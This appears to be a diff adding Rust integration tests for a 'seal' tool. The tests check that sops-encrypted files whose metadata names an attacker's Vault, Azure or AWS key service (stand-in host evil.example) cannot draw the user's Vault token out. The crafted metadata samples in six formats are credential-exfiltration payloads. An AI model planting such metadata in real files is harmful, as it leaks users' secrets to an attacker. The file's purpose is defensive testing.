@@ -1,0 +1,146 @@
+//! A file of `sops` names the key service that decrypts it, and `sops` sends the user's credentials
+//! there.
+#![cfg(unix)]
+#![expect(clippy::expect_used, reason = "a test fails by panicking")]
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::PathBuf;
+use std::process::{Command, Output, Stdio};
+
+const CERTIFICATE: &str = include_str!("seal/fixtures/cert.pem");
+
+/// A folder with a `sops` that reports when it runs, and that knows the token.
+struct Scene(tempfile::TempDir);
+
+impl Scene {
+    fn new() -> Self {
+        let scene = Self(tempfile::tempdir().expect("a folder"));
+        let script =
+            "#!/bin/sh\necho \"$VAULT_TOKEN\" > \"$HOME/ran\"\nprintf '{\"a\": \"value\"}'\n";
+        fs::create_dir(scene.path("programs")).expect("ours");
+        fs::write(scene.path("programs/sops"), script).expect("ours");
+        let mode = fs::Permissions::from_mode(0o755);
+        fs::set_permissions(scene.path("programs/sops"), mode).expect("ours");
+        fs::write(scene.path("cert.pem"), CERTIFICATE).expect("ours");
+        scene
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.0.path().join(name)
+    }
+
+    fn import(&self, file: &str, more: &[&str], variables: &[(&str, &str)]) -> Output {
+        let programs = self.path("programs").display().to_string();
+        Command::new(env!("CARGO_BIN_EXE_seal"))
+            .args(["import", "sops", "x", file, "--cert=cert.pem", "-n=st"])
+            .args(more)
+            .current_dir(self.0.path())
+            .env("HOME", self.0.path())
+            .env("KUBECONFIG", "/nowhere")
+            .env("PATH", format!("{programs}:/usr/bin:/bin"))
+            .env("VAULT_TOKEN", "s.victim-token")
+            .env_remove("VAULT_ADDR")
+            .envs(variables.iter().copied())
+            .stdin(Stdio::null())
+            .output()
+            .expect("it starts")
+    }
+}
+
+fn said(output: &Output) -> String {
+    String::from_utf8_lossy(&output.stderr).into_owned()
+}
+
+const EVIL: &str = "http://evil.example:8200";
+
+/// The same metadata in every format that `sops` reads.
+fn files(address: &str) -> [(&'static str, String); 6] {
+    let value = "ENC[AES256_GCM,data:dmFsdWU=,iv:eA==,tag:eA==,type:str]";
+    let json = format!(r#"{{"hc_vault": [{{"vault_address": "{address}"}}], "mac": "x"}}"#);
+    [
+        (
+            "x.yaml",
+            format!("a: {value}\nsops:\n  mac: x\n  hc_vault:\n  - vault_address: {address}\n"),
+        ),
+        (
+            "groups.yaml",
+            format!("a: {value}\nsops: {{mac: x, key_groups: [{json}]}}\n"),
+        ),
+        ("x.json", format!(r#"{{"a": "{value}", "sops": {json}}}"#)),
+        ("x.enc", format!(r#"{{"data": "{value}", "sops": {json}}}"#)),
+        (
+            "x.env",
+            format!("a={value}\nsops_mac=x\nsops_hc_vault__list_0__map_vault_address={address}\n"),
+        ),
+        (
+            "x.ini",
+            format!(
+                "[a]\na = {value}\n[sops]\nmac = x\nhc_vault__list_0__map_vault_address = {address}\n"
+            ),
+        ),
+    ]
+}
+
+/// Attack: sends a file of `sops` whose metadata names the attacker's server as the Vault. `sops`
+/// sends the user's token there.
+#[test]
+fn gives_no_token_to_an_address_that_only_the_file_names() {
+    for variables in [&[][..], &[("VAULT_ADDR", "https://vault.example:8200")]] {
+        for (name, text) in files(EVIL) {
+            let scene = Scene::new();
+            fs::write(scene.path(name), &text).expect("ours");
+            let output = scene.import(name, &[], variables);
+            let why = format!("{name} {variables:?}: {}", said(&output));
+            assert!(!scene.path("ran").exists(), "{why}");
+            assert_eq!(output.status.code(), Some(2), "{why}");
+            assert!(said(&output).contains(EVIL), "{why}");
+        }
+    }
+}
+
+/// Attack: names a server of the attacker as a key service of Azure, or by the region of a key of
+/// AWS.
+#[test]
+fn no_other_key_service_is_at_an_address_of_the_attacker() {
+    for service in [
+        r#""azure_kv": [{"vault_url": "https://evil.example"}]"#,
+        r#""key_groups": [{"azure_kv": [{"vault_url": "https://evil.example"}]}]"#,
+        r#""kms": [{"arn": "arn:aws:kms:evil.example/:123456789012:key/a"}]"#,
+    ] {
+        let scene = Scene::new();
+        let text = format!(r#"{{"a": "b", "sops": {{"mac": "x", {service}}}}}"#);
+        fs::write(scene.path("x.json"), text).expect("ours");
+        let output = scene.import("x.json", &[], &[]);
+        assert!(!scene.path("ran").exists(), "{service}: {}", said(&output));
+        assert!(
+            said(&output).contains("evil.example"),
+            "{service}: {}",
+            said(&output)
+        );
+    }
+}
+
+/// The user names the address, by the environment or a flag.
+#[test]
+fn a_key_service_that_the_user_names_is_asked() {
+    let address = "https://vault.example:8200";
+    for (more, variables) in [
+        (
+            &[][..],
+            &[("VAULT_ADDR", "https://vault.example:8200/")][..],
+        ),
+        (&["--key-service=https://vault.example:8200"], &[]),
+    ] {
+        for (name, text) in files(address) {
+            let scene = Scene::new();
+            fs::write(scene.path(name), &text).expect("ours");
+            let output = scene.import(name, more, variables);
+            assert!(
+                scene.path("ran").exists(),
+                "{name} {more:?}: {}",
+                said(&output)
+            );
+        }
+    }
+}
